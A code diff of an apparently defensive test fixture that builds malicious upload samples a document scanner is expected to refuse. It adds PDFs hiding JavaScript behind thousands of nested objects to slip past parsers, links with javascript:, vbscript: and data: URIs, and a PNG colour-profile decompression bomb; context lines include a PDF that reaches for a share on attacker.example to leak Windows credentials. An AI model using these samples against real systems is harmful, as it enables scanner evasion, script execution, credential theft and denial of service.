@@ -36,11 +36,11 @@ def webp_bomb(edge=16384):
     return b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x
 
 
-def pdf(catalog_extra=b""):
+def pdf(catalog_extra=b"", page_extra=b""):
     """A minimal one-page PDF, ending with %%EOF as a complete file does."""
     objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"]
+               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + b">>"]
     out = b"%PDF-1.4\n"
     offsets = []
     for n, body in enumerate(objects, 1):
@@ -139,6 +139,38 @@ def pdf_picture_js():
 # The "BadPDF" credential leak: opening the file makes Windows reach for a share.
 PDF_GOTOR_UNC = pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> ")
 PDF_URI_FILE = pdf(b"/OpenAction << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> ")
+
+
+def pdf_deep_js(depth, arrays=False):
+    """The script action with one more key holding `depth` nested dictionaries (or arrays):
+    deeper than a parser reads, so a checker that skips what it cannot parse passes it."""
+    opening, closing = (b"[", b"]") if arrays else (b"<< /A ", b" >>")
+    deep = opening * depth + b" 0 " + closing * depth
+    return pdf(b"/OpenAction << /S /JavaScript /Deep " + deep + b" /JS (app.alert\\(1\\)) >> ")
+
+
+def pdf_link(target):
+    """A page whose link annotation opens `target`."""
+    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (" + target + b") >> >>"
+    return pdf(page_extra=b"/Annots [" + link + b"] ")
+
+
+def png_profile_bomb(inflated=1 << 30, block=1 << 20):
+    """A PNG whose iCCP colour profile inflates to `inflated` zero bytes from about a
+    thousandth of that: one block of zeros deflated once, its output (the same for every
+    block after the first) repeated, with zlib's checksum of that many zeros."""
+    deflate = zlib.compressobj(9)
+    zeros = bytes(block)
+    first = deflate.compress(zeros) + deflate.flush(zlib.Z_SYNC_FLUSH)
+    following = deflate.compress(zeros) + deflate.flush(zlib.Z_SYNC_FLUSH)
+    last = deflate.flush()[:-4]
+    adler = ((inflated % 65521) << 16) | 1
+    stream = first + following * (inflated // block - 1) + last + struct.pack(">I", adler)
+    plain = png()
+    # After the signature and the header chunk, where cameras write it.
+    return plain[:33] + chunk(b"iCCP", b"icc\0\0" + stream) + plain[33:]
+
+
 # HTML between the header and the end marker: no object, no trailer.
 PDF_HTML_ONLY = b"%PDF-1.4\n" + HTML + b"\n%%EOF\n"
 
@@ -176,6 +208,13 @@ def refused(document):
                     ("PDF with JavaScript in a picture stream's data", "scan.pdf", pdf_picture_js()),
                     ("PDF with GoToR to a UNC path", "scan.pdf", PDF_GOTOR_UNC),
                     ("PDF with a file: URI", "scan.pdf", PDF_URI_FILE),
+                    ("PDF with JavaScript behind 8000 nested dictionaries", "scan.pdf", pdf_deep_js(8000)),
+                    ("PDF with JavaScript behind 40000 nested arrays", "scan.pdf", pdf_deep_js(40000, arrays=True)),
+                    ("PDF with a javascript: link", "scan.pdf", pdf_link(b"javascript:app.alert\\(1\\)")),
+                    ("PDF with a vbscript: link", "scan.pdf", pdf_link(b"vbscript:msgbox")),
+                    ("PDF with a data: link", "scan.pdf", pdf_link(b"data:text/html,<script>alert(1)</script>")),
+                    ("PDF opening a javascript: URI", "scan.pdf",
+                     pdf(b"/OpenAction << /S /URI /URI (JavaScript:app.alert\\(1\\)) >> ")),
                     ("HTML between %PDF and %%EOF", "scan.pdf", PDF_HTML_ONLY),
                     ("PDF + appended HTML", "scan.pdf", pdf() + HTML),
                     ("PDF named .png", "scan.png", pdf())]
